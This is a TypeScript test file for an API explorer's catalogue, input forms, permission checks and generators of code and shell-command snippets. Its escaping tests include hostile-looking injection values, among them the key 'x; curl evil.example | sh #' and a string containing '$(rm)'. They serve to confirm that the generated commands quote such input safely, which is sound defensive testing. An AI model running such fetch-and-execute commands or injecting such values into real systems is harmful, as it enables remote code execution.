import { Role } from '@mintmark/admin'
import { promoCodeCards } from '@mintmark/cards'
import { eventWebhooks } from '@mintmark/events'
import { describe, expect, it } from 'vitest'
import { type DocumentedField, parseApiDocument } from './api-document.ts'
import { type CatalogueEntry, findEntry, listCatalogue, searchCatalogue } from './catalogue.ts'
import { getControl, parseInputText, toCallInput, toEntered, toForm, toJsonText } from './input-fields.ts'
import { isOfOperators, mayCallOperation } from './permission.ts'
import { formatLiteral, toSignedParts, writeCommand, writeTypeScript } from './snippets.ts'

const catalogue = listCatalogue({ isOperator: true })
const entries = catalogue.flatMap((section) => section.entries)
const baseUrl = 'https://gateway.example'

function getEntry(id: string): CatalogueEntry {
  const entry = findEntry(catalogue, id)
  if (entry === undefined) throw new Error(`There is no ${id}`)
  return entry
}

it('the catalogue has every operation of the gateway once, under the name that a program imports', async () => {
  const ids = entries.map(({ operation }) => operation.id)
  expect(new Set(ids).size).toBe(ids.length)
  expect(ids).toEqual(expect.arrayContaining(['orders.list', 'audit.verify', 'events.stream', 'nfts.list']))
  for (const { packageName, group, name, operation } of entries) {
    const module: Record<string, Record<string, unknown>> = await import(packageName)
    expect(module[group]?.[name]).toBe(operation)
  }
})

it('the catalogue has the operations of operators only for them', () => {
  const ids = listCatalogue({ isOperator: false }).flatMap((section) =>
    section.entries.map(({ operation }) => operation.id),
  )
  expect(ids).not.toContain('operatorProjects.create')
  expect(entries.map(({ operation }) => operation.id)).toContain('operatorProjects.create')
})

it('the catalogue is searched by all words, in the name, the path and the description', () => {
  const search = (text: string) =>
    searchCatalogue(catalogue, text, ({ id }) => (id === 'orders.list' ? 'Lists what was bought' : ''))
      .flatMap((section) => section.entries)
      .map(({ operation }) => operation.id)
  expect(search('orders.LIST')).toContain('orders.list')
  expect(search('bought lists')).toEqual(['orders.list'])
  expect(search('admin/v1/audit verify')).toEqual(['audit.verify'])
  expect(search('nothing like this')).toEqual([])
})

describe('the fields of an operation', () => {
  const document = parseApiDocument({
    paths: {
      '/things/{id}': {
        patch: {
          operationId: 'things.update',
          summary: 'Changes a thing',
          description: 'Keeps the rest.',
          parameters: [
            { $ref: '#/components/parameters/Id' },
            { name: 'dry', in: 'query', schema: { type: 'boolean', description: 'Default: false.' } },
            { name: 'Last-Event-ID', in: 'header', schema: { type: 'string' } },
          ],
          requestBody: {
            content: { 'application/json': { schema: { $ref: '#/components/schemas/ThingsUpdateInput' } } },
          },
        },
      },
    },
    components: {
      parameters: {
        Id: { name: 'id', in: 'path', required: true, description: 'The id.', schema: { type: 'integer' } },
      },
      schemas: {
        ThingsUpdateInput: {
          properties: {
            tags: { type: 'array', items: { type: 'string' } },
            name: { type: 'string' },
          },
          required: ['name'],
        },
      },
    },
  })

  it('the fields of an operation are those of the document, the required ones first', () => {
    const operation = document.get('things.update')
    expect(operation?.description).toBe('Changes a thing. Keeps the rest.')
    expect(operation?.fields.map(({ name, isRequired }) => [name, isRequired])).toEqual([
      ['id', true],
      ['name', true],
      ['dry', false],
      ['tags', false],
    ])
    expect(operation?.fields.map(({ description }) => description)).toEqual([
      'The id.',
      '',
      'Default: false.',
      '',
    ])
  })

  it.each([
    [{ type: 'string' }, 'text'],
    [{ type: 'string', enum: ['a'] }, 'choice'],
    [{ type: 'boolean' }, 'choice'],
    [{ type: 'integer' }, 'number'],
    [{ type: 'array', items: { type: 'string' } }, 'lines'],
    [{ type: 'array', items: { type: 'object' } }, 'json'],
    [{}, 'json'],
  ])('the fields of an operation with the schema %j are entered as %s', (schema, control) => {
    expect(getControl(schema)).toBe(control)
  })
})

describe('what is entered', () => {
  const field = (name: string, schema: DocumentedField['schema']): DocumentedField => ({
    name,
    schema,
    isRequired: false,
    description: '',
  })
  const fields = [
    field('name', { type: 'string' }),
    field('total', { type: 'integer' }),
    field('open', { type: 'boolean' }),
    field('kind', { enum: [1, 2] }),
    field('tags', { type: 'array', items: { type: 'string' } }),
    field('data', {}),
  ]
  const entered = { name: ' a ', total: '7', open: 'false', kind: '2', tags: 'x\n\n y ', data: '{"a":[1]}' }
  const input = { name: ' a ', total: 7, open: false, kind: 2, tags: ['x', 'y'], data: { a: [1] } }

  it('becomes the values of the schema, and back', () => {
    expect(toCallInput(fields, entered)).toEqual({ input, issues: [] })
    expect(toCallInput(fields, toEntered(fields, input)).input).toEqual(input)
    expect(toCallInput(fields, { name: '  ' }).input).toEqual({})
  })

  it('names the fields that are no number and no JSON', () => {
    const { issues } = toCallInput(fields, { total: 'seven', data: '{' })
    expect(issues.map(({ path }) => path)).toEqual(['total', 'data'])
  })

  it.each([
    ['an empty text', '{"name":""}'],
    ['spaces', '{"name":" "}'],
    ['an empty list', '{"tags":[]}'],
    ['a text with two lines in a list', '{"tags":["x\\ny"]}'],
    ['a value that is no choice', '{"kind":9}'],
    ['a text instead of a number', '{"total":"7"}'],
    ['a field without a value', '{"open":null}'],
    ['an unknown field', '{"name":"a","color":"red"}'],
    ['JSON that is not finished', '{"name":"a",'],
    ['no object', '[7]'],
  ])('stays JSON if it has %s, which a form would lose', (_, text) => {
    expect(toForm(fields, text)).toEqual({ message: expect.any(String) })
  })

  it('what is entered is shown in a form if the form sends the same', () => {
    expect(toForm(fields, JSON.stringify(input))).toEqual({ entered: toEntered(fields, input) })
    expect(toForm(fields, ' ')).toEqual({ entered: {} })
  })

  it('becomes JSON with all that was entered, also with what is not finished', () => {
    expect(JSON.parse(toJsonText(fields, entered))).toEqual(input)
    const unfinished = { name: 'a', total: 'seven', data: '{"a":' }
    expect(JSON.parse(toJsonText(fields, unfinished))).toEqual(unfinished)
  })

  it('what is entered is an object if it is JSON', () => {
    expect(parseInputText('{"id":7}')).toEqual({ id: 7 })
    expect(parseInputText(' ')).toEqual({})
    for (const text of ['[]', '7', 'null', '{']) expect(parseInputText(text)).toBeUndefined()
  })
})

describe('the code of a call', () => {
  const evil = `it's "a" \\ </script> $(rm) \`x\`\n`

  it('the code of a call has texts that end nowhere else, in each language', () => {
    // The literal is evaluated as code, which must return the text.
    const evaluate = new Function(`return ${formatLiteral({ 'a-b': [evil], c: { d: null } })}`)
    expect(evaluate()).toEqual({ 'a-b': [evil], c: { d: null } })
    const command = writeCommand({ entry: getEntry('orders.get'), input: { orderNo: evil }, baseUrl })
    expect(command).toBe(`mintmark orders get --order-no '${evil.replaceAll("'", "'\\''")}'`)
  })

  it('calls the operation with the packages', () => {
    const entry = getEntry('promoCodeCards.list')
    expect(writeTypeScript({ entry, input: { pageSize: 5 }, baseUrl })).toContain(
      'const result = await promoCodeCards.list(gateway, {\n  pageSize: 5,\n})',
    )
    expect(writeTypeScript({ entry, input: {}, baseUrl })).toContain('promoCodeCards.list(gateway)\n')
    const stream = getEntry('events.stream')
    expect(writeTypeScript({ entry: stream, input: {}, baseUrl })).toContain('for await')
  })

  it('repeats the flag of a list on the command line', () => {
    const entry = getEntry('promoCodeCards.create')
    const input = { name: 'Tea', applicableStores: ['Berlin', 'Hamburg'], totalIssued: 3 }
    expect(writeCommand({ entry, input, baseUrl })).toBe(
      'mintmark promo-code-cards create \\\n  --name Tea \\\n  --applicable-stores Berlin \\\n  --applicable-stores Hamburg \\\n  --total-issued 3',
    )
  })

  it('passes what a flag cannot have as JSON: empty lists, null, control characters and unknown names', () => {
    const write = (id: string, input: object) =>
      writeCommand({ entry: getEntry(id), input: { ...input }, baseUrl })
    expect(write('membershipCards.update', { id: 7, benefits: [], level: null, name: undefined })).toBe(
      `printf '%s' '{"benefits":[],"level":null}' | mintmark membership-cards update \\\n  --id 7 \\\n  --input -`,
    )
    expect(write('orders.get', { orderNo: 'A1', 'x; curl evil.example | sh #': 1 })).toBe(
      `printf '%s' '{"x; curl evil.example | sh #":1}' | mintmark orders get \\\n  --order-no A1 \\\n  --input -`,
    )
    // A terminal that pastes them as keys would end the line by the first one, and delete a quote by the other.
    expect(write('orders.get', { orderNo: 'A\u0003\u007f1' })).toBe(
      `printf '%s' '{"orderNo":"A\\u0003\\u007f1"}' | mintmark orders get --input -`,
    )
    expect(write('orders.get', { orderNo: 'A\ud83d' })).toContain(`'{"orderNo":"A\\ud83d"}'`)
  })

  it('quotes a word that zsh would replace by the path of a program', () => {
    const command = writeCommand({ entry: getEntry('orders.get'), input: { orderNo: '=ls' }, baseUrl })
    expect(command).toBe(`mintmark orders get --order-no '=ls'`)
  })

  it('the code of a call is written although half of a character is entered', () => {
    const entry = getEntry('orders.get')
    const call = { entry, input: { orderNo: 'A\ud83d' }, baseUrl }
    expect(toSignedParts(entry.operation, call.input).path).toBe('/api/v1/order/A%EF%BF%BD')
    expect(writeTypeScript(call)).toContain(`orderNo: 'A\\ud83d'`)
  })

  it('signs the query sorted by name and value, and the body without the fields of the address', () => {
    const list = {
      ...promoCodeCards.list,
      query: { b: promoCodeCards.list.data, a: promoCodeCards.list.data },
    }
    expect(toSignedParts(list, { b: "it's", a: ['2', '10'] }).query).toBe('a=10&a=2&b=it%27s')
    const { path, body } = toSignedParts(eventWebhooks.rotateSecret, { id: 7, overlapHours: 3 })
    expect(path).toBe('/api/v1/webhooks/7/rotateSecret')
    expect(body).toBe('{"overlapHours":3}')
  })
})

describe('a call', () => {
  const read = { effect: 'read' } as const
  const write = { effect: 'write' } as const

  it('a call is offered where the role may make it', () => {
    const may = (role: string, operation: Parameters<typeof mayCallOperation>[0]) =>
      mayCallOperation(operation, { role, isOperator: false })
    expect(may(Role.AUDITOR, { ...read, scope: 'audit:read' })).toBe(true)
    expect(may(Role.AUDITOR, { ...write, scope: 'cards:write' })).toBe(false)
    expect(may(Role.MANAGER, { ...write, scope: 'cards:write' })).toBe(true)
    expect(may(Role.MANAGER, { ...read, scope: 'audit:read' })).toBe(false)
    expect(may(Role.STAFF, { ...read, scope: 'orders:read' })).toBe(false)
    expect(may(Role.STAFF, { ...write, scope: 'cards:verify' })).toBe(true)
    expect(may(Role.STAFF, { ...write, scope: 'cards:write' })).toBe(false)
    expect(may(Role.OWNER, { ...write, scope: 'operator:write' })).toBe(false)
    expect(
      mayCallOperation({ ...write, scope: 'operator:write' }, { role: undefined, isOperator: true }),
    ).toBe(true)
  })

  it('a call is known to be limited to the project, or not', () => {
    expect(isOfOperators(getEntry('orders.get').operation)).toBe(false)
    expect(isOfOperators(getEntry('operatorProjects.create').operation)).toBe(true)
  })
})
